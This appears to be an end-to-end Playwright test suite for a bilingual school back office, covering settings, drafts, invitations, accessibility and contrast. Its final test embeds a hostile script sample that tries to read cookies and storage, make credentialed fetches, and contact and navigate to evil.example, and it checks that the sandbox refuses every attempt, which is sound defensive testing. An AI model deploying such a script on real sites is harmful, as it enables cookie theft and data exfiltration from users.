import type { Locator, Page } from 'playwright-core'
import { describe } from 'vitest'
import { expect, test, visit, visitAgain } from './browser.ts'
import { linkFor, post } from './calls.ts'
import { words } from './words.ts'

async function logIn(page: Page, email = 'owner@demo.test', password = 'demo-password'): Promise<void> {
  await page.goto('/login')
  await page.fill('[name=email]', email)
  await page.fill('[name=password]', password)
  await page.locator('main button[type=submit]').click()
  await page.waitForURL((url) => url.pathname !== '/login')
}

describe.each(['en-GB', 'pl-PL'])('the back office (%s)', (locale) => {
  const t = words(locale)

  test('settings are found by search, refused at the field, saved in place and written down', async ({ open }) => {
    const page = await open({ locale })
    await logIn(page)
    await visit(page, `/home/team?lang=${locale.slice(0, 2)}`)
    await page.keyboard.press('/')
    await page.locator('[role=combobox]:focus').waitFor()
    await page.keyboard.type(t('ui', 'place_company').slice(0, 8))
    await page.keyboard.press('Enter')
    await page.waitForURL('**/home/settings/company')

    const vat = page.getByLabel(t('schools', 'vat_id'))
    const saveCompany = page.locator('#company').getByRole('button', { name: t('schools', 'save') })
    const before = await vat.inputValue()
    await vat.fill('PL 12/34')
    await page.getByLabel(t('schools', 'city')).fill('Zgierz')
    await saveCompany.click()
    await page.getByText(t('schools', 'vat_number')).first().waitFor()
    await expect.poll(() => vat.evaluate((field) => field === document.activeElement)).toBe(true)
    expect(await page.getByLabel(t('schools', 'city')).inputValue()).toBe('Zgierz')
    expect(new URL(page.url()).pathname).toBe('/home/settings/company')

    await vat.fill(before)
    await saveCompany.click()
    await page.getByText(t('schools', 'saved'), { exact: true }).first().waitFor()
    await page.reload()
    expect(await page.getByLabel(t('schools', 'city')).inputValue()).toBe('Zgierz')
    await page.getByRole('link', { name: t('ui', 'place_changes') }).click()
    await page
      .getByRole('cell')
      .filter({ hasText: t('activity', 'field_seller') })
      .first()
      .waitFor()
  })

  test('the focus returns to what opened a window, and is not lost when a row goes', async ({ open }) => {
    const page = await open({ locale })
    await logIn(page)
    await visit(page, `/home/student-tags?lang=${locale.slice(0, 2)}`)
    const name = `Focus ${Date.now()}`
    const add = page.getByRole('button', { name: t('student-tags', 'add'), exact: true }).first()
    const focused = (element: Locator) =>
      expect.poll(() => element.evaluate((one) => one === document.activeElement)).toBe(true)
    // The first tag takes the place of the button that a list without any has.
    await post(page, '/home/student-tags', { name: `Before ${name}` })
    await page.reload()
    await add.click()
    await page.getByRole('dialog').locator('[name=name]').fill(name)
    await page.keyboard.press('Enter')
    await page.getByRole('row', { name }).last().waitFor()
    await focused(add)
    await page.getByRole('button', { name: t('student-tags', 'delete_tag', { name }), exact: true }).click()
    await page
      .getByRole('alertdialog')
      .getByRole('button', { name: t('ui', 'delete'), exact: true })
      .click()
    await expect
      .poll(() => page.getByRole('button', { name: t('student-tags', 'delete_tag', { name }), exact: true }).count())
      .toBe(0)
    // Not at the top of the page, from where keys begin anew.
    await expect.poll(() => page.evaluate(() => document.activeElement?.tagName)).not.toBe('BODY')
  })

  test('what is wrong with a file to import is said in full', async ({ open }) => {
    const page = await open({ locale })
    await logIn(page)
    await visit(page, `/home/transfer/import?lang=${locale.slice(0, 2)}`)
    await page.getByRole('button', { name: t('moving', 'check'), exact: true }).click()
    await expect.poll(() => page.locator('#file-error').textContent()).toMatch(/^.{10,}/)
  })

  test('a test e-mail is found by search, sent, and what became of it is said', async ({ open }) => {
    const page = await open({ locale })
    await logIn(page)
    await visit(page, `/home?lang=${locale.slice(0, 2)}`)
    await page.keyboard.press('/')
    await page.locator('[role=combobox]:focus').waitFor()
    await page.keyboard.type(t('notifications', 'test_title'))
    await page.getByRole('option', { name: t('notifications', 'test_title') }).waitFor()
    await page.keyboard.press('Enter')
    await page.waitForURL('**/home/settings/mail#test')
    await page.getByRole('button', { name: t('notifications', 'test_send') }).click()
    await page.getByText(t('notifications', 'test_kept')).waitFor()
    await page.goto('/home/emails/sent')
    await page
      .getByRole('link', { name: t('notifications', 'test_title') })
      .first()
      .waitFor()
  })

  test('the keyboard finds a student and goes back to where it was', async ({ open }) => {
    const page = await open({ locale })
    await logIn(page)
    expect(new URL(page.url()).pathname).toBe('/home')
    await visit(page, `/home/emails/sent?lang=${locale.slice(0, 2)}`)
    const search = page.getByRole('button', { name: t('ui', 'search_hint') })
    const field = page.getByRole('combobox', { name: t('ui', 'search') })
    const chosen = async () => page.locator(`[id="${await field.getAttribute('aria-activedescendant')}"]`).textContent()
    await search.focus()
    await page.keyboard.press('Control+k')
    await field.waitFor()
    await page.keyboard.press('Escape')
    await field.waitFor({ state: 'detached' })
    await expect.poll(() => search.evaluate((button) => button === document.activeElement)).toBe(true)

    await page.keyboard.press('/')
    await field.fill('karolina')
    await page.getByRole('group', { name: t('ui', 'hits_students') }).waitFor()
    await expect.poll(chosen).toContain('student@demo.test')
    await page.keyboard.press('ArrowDown')
    await expect.poll(chosen).not.toContain('student@demo.test')
    await page.keyboard.press('ArrowUp')
    await page.keyboard.press('Enter')
    await page.waitForURL('**/home/students/*')
    await page.getByRole('heading', { name: 'Karolina Maj' }).waitFor()
  })

  test('what was typed survives a session that ended meanwhile, and nothing says that it was saved', async ({
    open,
  }) => {
    const page = await open({ locale })
    await logIn(page)
    await visit(page, '/home/settings/legal?kind=privacy')
    const text = page.locator(`[name="text.${locale.slice(0, 2)}"]`)
    const before = await text.inputValue()
    expect(before).not.toBe('')
    await page.locator('.language-panel:not([hidden]) .rte-text').focus()
    await page.keyboard.press('Control+End')
    await page.keyboard.type(' And one more sentence.')
    const written = await text.inputValue()
    expect(written).toContain('And one more sentence.')
    await page.context().clearCookies({ name: 'session' })
    await page.locator('.card-foot button[type=submit]').click()
    await page.getByText(t('accounts', 'login_expired')).waitFor()
    expect(await page.getByText(t('schools', 'published')).count()).toBe(0)
    await page.fill('[name=email]', 'owner@demo.test')
    await page.fill('[name=password]', 'demo-password')
    await page.locator('main button[type=submit]').click()
    await page.waitForURL('**/home/settings/legal?kind=privacy')
    await expect.poll(() => text.inputValue()).toBe(written)
    await page.locator('[data-draft-discard]').click()
    await expect.poll(() => text.inputValue()).toBe(before)
    await visitAgain(page)
    expect(await text.inputValue()).toBe(before)
  })

  test('unsaved changes are warned of, come back to whoever typed them, and go with the log-out', async ({ open }) => {
    const page = await open({ locale })
    await logIn(page)
    await visit(page, `/home/settings/company?lang=${locale.slice(0, 2)}`)
    const city = page.getByLabel(t('schools', 'city'))
    const before = await city.inputValue()
    await city.fill('Pabianice')
    await page.getByRole('link', { name: t('ui', 'place_team') }).click()
    await page
      .getByRole('alertdialog')
      .getByRole('button', { name: t('ui', 'stay') })
      .click()
    expect(await city.inputValue()).toBe('Pabianice')
    await page.getByRole('link', { name: t('ui', 'place_team') }).click()
    await page
      .getByRole('alertdialog')
      .getByRole('button', { name: t('ui', 'leave') })
      .click()
    await page.waitForURL('**/home/team')
    await visit(page, '/home/settings/company')
    await expect.poll(() => city.inputValue()).toBe('Pabianice')
    await page.locator('#company').getByText(t('ui', 'draft_restored')).waitFor()

    const other = await page.context().newPage()
    await visit(other, '/home/settings/company')
    expect(await other.getByLabel(t('schools', 'city')).inputValue()).toBe(before)
    await other.goto('/account')
    await other.locator('form[action="/logout"]').evaluate((form: HTMLFormElement) => form.requestSubmit())
    await other.waitForURL((url) => url.pathname === '/')
    await logIn(page)
    await visit(page, '/home/settings/company')
    expect(await city.inputValue()).toBe(before)
  })

  test('a text so long that a thread makes its HTML is published', async ({ open }) => {
    const page = await open({ locale })
    await logIn(page)
    await visit(page, `/home/settings/legal?kind=privacy&lang=${locale.slice(0, 2)}`)
    const text = page.locator(`[name="text.${locale.slice(0, 2)}"]`)
    await page.locator('.language-panel:not([hidden]) .rte-text').focus()
    await page.keyboard.press('Control+End')
    await page.keyboard.insertText(' One more sentence.'.repeat(200))
    expect((await text.inputValue()).length).toBeGreaterThan(2000)
    await page.locator('.card-foot button[type=submit]').click()
    await page.getByText(t('schools', 'published')).waitFor()
  })

  test('a colour is shown at once and kept, and text on it stays readable', async ({ open }) => {
    const page = await open({ locale })
    await logIn(page)
    await visit(page, '/home/settings/brand')
    const before = await page.inputValue('[name=brand_hue]')
    await page.fill('input[type=color]', locale === 'en-GB' ? '#ffe600' : '#7dff3a')
    const shown = page.locator('.preview .btn').first()
    await page.waitForFunction(
      (hue) => document.querySelector<HTMLInputElement>('[name=brand_hue]')?.value !== hue,
      before,
    )
    // A colour takes a moment to become another one.
    await expect.poll(() => contrastOf(shown)).toBeGreaterThan(4.5)
    const chosen = await page.inputValue('[name=brand_hue]')
    await page
      .locator('#brand')
      .getByRole('button', { name: t('schools', 'save') })
      .click()
    await page.getByText(t('schools', 'saved'), { exact: true }).first().waitFor()
    await visitAgain(page)
    expect(await page.inputValue('[name=brand_hue]')).toBe(chosen)
    const other = await open({ locale })
    await other.goto('/login')
    expect(await contrastOf(other.locator('main button[type=submit]'))).toBeGreaterThan(4.5)
  })

  test('the owner invites somebody, who makes an account by the link and finds the back office', async ({ open }) => {
    const owner = await open({ locale })
    await logIn(owner)
    await visit(owner, '/home/team')
    const email = `colleague-${locale.toLowerCase()}-${Date.now()}@example.com`
    await owner.getByLabel(t('team', 'email'), { exact: true }).fill(email)
    await owner.locator('select[name=locale]').selectOption(locale.slice(0, 2))
    await owner.locator('form[action="/home/team/invitations"] select[name=role]').selectOption('administrator')
    await owner.getByRole('button', { name: t('team', 'invite_button') }).click()
    await owner.getByRole('cell', { name: email }).waitFor()

    const link = await linkFor(owner, email)
    const colleague = await open({ locale })
    await colleague.goto(link)
    await colleague.getByLabel(t('accounts', 'first_name')).fill('Łucja')
    await colleague.locator('[name=password]').fill('three quiet foxes')
    await colleague.getByRole('button', { name: t('team', 'invitation_register') }).click()
    await colleague.waitForURL('**/home')
    await colleague.goto('/home/settings')
    await colleague.getByRole('heading', { level: 1, name: t('ui', 'place_settings') }).waitFor()
    expect((await colleague.goto('/home/team'))?.status()).toBe(403)

    await visit(owner, '/home/team')
    const row = owner.locator('tr', { hasText: email })
    await row.getByRole('button', { name: t('team', 'remove') }).click()
    await owner
      .getByRole('alertdialog')
      .getByRole('button', { name: t('team', 'remove') })
      .click()
    await row.waitFor({ state: 'detached' })
    expect((await colleague.goto('/home/settings'))?.url()).toContain('/login')
  })
})

/** The contrast of an element's text with its fill, as WCAG counts it, in the colours that the browser painted. */
function contrastOf(element: ReturnType<Page['locator']>): Promise<number> {
  return element.evaluate((node) => {
    const { color, backgroundColor } = getComputedStyle(node)
    const canvas = document.createElement('canvas').getContext('2d', { willReadFrequently: true })
    const luminance = (painted: string) => {
      if (!canvas) return 0
      canvas.fillStyle = painted
      canvas.fillRect(0, 0, 1, 1)
      const [r = 0, g = 0, b = 0] = [...canvas.getImageData(0, 0, 1, 1).data].map((channel) => {
        const value = channel / 255
        return value <= 0.04045 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4
      })
      return 0.2126 * r + 0.7152 * g + 0.0722 * b
    }
    const [light = 0, dark = 0] = [luminance(color), luminance(backgroundColor)].sort((a, b) => b - a)
    return (light + 0.05) / (dark + 0.05)
  })
}

/** What a hostile script would try, and a report of how it went. */
const HOSTILE = `
const tried = {}
function attempt(name, work) {
  try { tried[name] = String(work()) } catch { tried[name] = 'refused' }
}
attempt('cookie', () => document.cookie)
attempt('storage', () => localStorage.length)
attempt('page', () => parent.document.title)
attempt('navigation', () => { top.location = 'https://evil.example/' })
attempt('popup', () => window.open('https://evil.example/'))
addEventListener('message', async ({ data }) => {
  if (data.type !== 'page_view') return
  const call = (options) => fetch(new URL('/me', 'ORIGIN'), options).then((answer) => answer.text(), () => 'refused')
  const fetched = await call({ credentials: 'include' })
  const sent = await fetch('https://evil.example/').then(() => 'sent', () => 'refused')
  parent.postMessage({ type: 'report', tried, fetched, sent, origin, view: data }, '*')
})`

test('a school’s own script learns which page is seen and reaches nothing else', async ({ open }) => {
  const owner = await open()
  await logIn(owner)
  await owner.goto('/home/settings/scripts')
  const version = Number(await owner.inputValue('[name=version]'))
  const code = HOSTILE.replace('ORIGIN', new URL(owner.url()).origin)
  await post(owner, '/home/settings/scripts', { version, code, pages: ['product'], hosts: [] })
  // Not watched for errors: this page logs each refusal.
  const page = await owner.context().newPage()
  await page.addInitScript(() => {
    addEventListener('message', ({ data }) => {
      if (data.type === 'report') Object.assign(globalThis, { report: data })
    })
  })
  await page.goto('/demo-course')
  await page.waitForFunction(() => 'report' in globalThis)
  const report = await page.evaluate(() => (globalThis as unknown as { report: unknown }).report)
  expect(report).toMatchObject({
    tried: { cookie: 'refused', storage: 'refused', page: 'refused' },
    fetched: 'refused',
    sent: 'refused',
    origin: 'null',
    view: { page: 'product', path: '/demo-course', locale: expect.stringMatching(/en|pl/) },
  })
  expect(new URL(page.url()).pathname).toBe('/demo-course')
  expect(page.context().pages()).toHaveLength(2)
  await page.goto('/demo-course/checkout')
  expect(await page.locator('iframe').count()).toBe(0)
  await page.close()
  await post(owner, '/home/settings/scripts/stop', {})
})
